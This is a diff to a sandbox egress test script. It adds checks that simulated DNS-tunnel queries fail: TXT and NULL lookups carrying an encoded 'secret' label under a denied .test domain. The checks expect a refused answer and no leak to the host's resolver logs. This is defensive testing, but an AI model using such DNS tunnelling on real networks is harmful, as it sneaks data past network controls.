@@ -184,6 +184,37 @@ eg_write_guest_script() {
 	except socket.timeout:
 	    print("nothing")
 	')"
+	# DNS asked by hand: rcode/answer count for each question.  A TXT or
+	# NULL tunnel under a denied name, random subdomains of an allowed name
+	# and of its sibling: refused, and none of them may leave the host.
+	python3 -c '
+	import random, socket, struct
+	ns = [l.split()[1] for l in open("/etc/resolv.conf") if l.startswith("nameserver")][0]
+	tag = "%08x" % random.getrandbits(32)
+	def ask(name, qtype):
+	    qid = random.getrandbits(16)
+	    q = struct.pack(">HHHHHH", qid, 0x0100, 1, 0, 0, 0)
+	    for label in name.split("."):
+	        q += bytes([len(label)]) + label.encode()
+	    q += b"\0" + struct.pack(">HH", qtype, 1)
+	    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(5)
+	    s.sendto(q, (ns, 53))
+	    try:
+	        r = s.recv(512)
+	    except socket.timeout:
+	        return "timeout"
+	    if len(r) < 12 or struct.unpack(">H", r[:2])[0] != qid:
+	        return "bad-reply"
+	    flags, qd, an = struct.unpack(">HHH", r[2:8])
+	    return "%d/%d" % (flags & 15, an)
+	for key, name, qtype in (("dns_a_allowed", "allowed.test", 1),
+	                         ("dns_txt_allowed", "allowed.test", 16),
+	                         ("dns_txt_tunnel", "c2VjcmV0" + tag + ".tunnel.denied.test", 16),
+	                         ("dns_null_tunnel", "c2VjcmV0" + tag + ".tunnel.denied.test", 10),
+	                         ("dns_sub_of_allowed", tag + ".allowed.test", 1),
+	                         ("dns_sub_of_sibling", tag + ".sibling.test", 1)):
+	    print("eg: %s=%s" % (key, ask(name, qtype)))
+	'
 	say env_key "${API_KEY:-unset}"
 	say secret_bound "$(c -H "X-Api-Key: $API_KEY" https://secret.test/ | tr '\n' ' ')"
 	say secret_other "$(c --cacert $ca -H "X-Api-Key: $API_KEY" https://allowed.test/ | tail -1)"
@@ -437,6 +468,12 @@ test_egress() {
 	eg_expect fronting_sni_rc "~^(35|52|56)$"
 	eg_expect fronting_host_rc "~^(52|56)$"
 	eg_expect udp_outside nothing
+	eg_expect dns_a_allowed 0/1
+	eg_expect dns_txt_allowed 0/0
+	eg_expect dns_txt_tunnel 5/0
+	eg_expect dns_null_tunnel 5/0
+	eg_expect dns_sub_of_allowed 5/0
+	eg_expect dns_sub_of_sibling 5/0
 	eg_expect env_key "~^k8s-placeholder-API_KEY-"
 	placeholder=$(eg_field env_key)
 	# The server echoed the real value; the guest must see the placeholder.
@@ -489,6 +526,11 @@ test_egress() {
 	grep -q "s3cr3t-value-42" "$WORK/eg/out" && eg_bad="$eg_bad secret-value-seen-in-guest"
 	grep -qa "denied" "$WORK/eg/dns.log" 2>/dev/null && eg_bad="$eg_bad denied-name-query-left-the-host"
 	grep -qa "exfil" "$WORK/eg/dns.log" 2>/dev/null && eg_bad="$eg_bad exfil-query-left-the-host"
+	grep -qaE "tunnel|sibling" "$WORK/eg/dns.log" 2>/dev/null && eg_bad="$eg_bad dns-tunnel-query-left-the-host"
+	for t in TXT NULL; do
+		grep "net.dns" "$WORK/eg/audit" | grep "tunnel.denied.test" | grep -qE "\"qtype\": ?\"$t\"" ||
+			eg_bad="$eg_bad no-audited-$t-tunnel-query"
+	done
 	for t in net.dns net.connect secret.use; do
 		grep -q "$t" "$WORK/eg/audit" || eg_bad="$eg_bad no-$t-audit-record"
 	done
